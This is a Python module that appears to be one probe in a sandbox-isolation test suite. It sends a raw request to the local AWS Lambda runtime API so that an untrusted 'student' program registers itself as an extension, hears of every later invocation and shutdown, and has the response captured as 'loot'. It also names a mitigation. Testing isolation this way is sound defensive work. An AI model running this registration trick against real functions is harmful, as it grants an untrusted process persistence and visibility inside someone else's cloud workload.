# SPDX-License-Identifier: MIT
"""Goal:  to be told of every later event of the instance.
Means: POST .../extension/register. An extension is any process that says it is one; it hears of
       each invocation and of the end, and the platform waits for it before it freezes the
       instance.
"""

import socket

from attack import DONE, attempting, denied, loot

BODY = '{"events": ["INVOKE", "SHUTDOWN"]}'
HELLO = (
    "POST /2020-01-01/extension/register HTTP/1.1\r\n"
    "Host: 127.0.0.1\r\n"
    "Lambda-Extension-Name: ordeal\r\n"
    f"Content-Length: {len(BODY)}\r\n\r\n{BODY}"
)


def run(brief):
    attempting()
    try:
        with socket.create_connection(("127.0.0.1", brief.api), timeout=3) as api:
            api.sendall(HELLO.encode())
            loot(api.recv(4096))
    except OSError as why:
        return denied("connect", why)
    return DONE


ATTACK = {
    "effect": "the student's program becomes an extension of the function",
    "means": "POST .../extension/register, with a name of its own",
    "oracle": "api:extension",
    "id": "LAPI-04",
    "attack_id": "T1543, CWE-306",
    "remedy": "seccomp without socket, or Landlock without connect_tcp",
    "refs": ["AWS Lambda extensions API, Register"],
    "run": run,
}
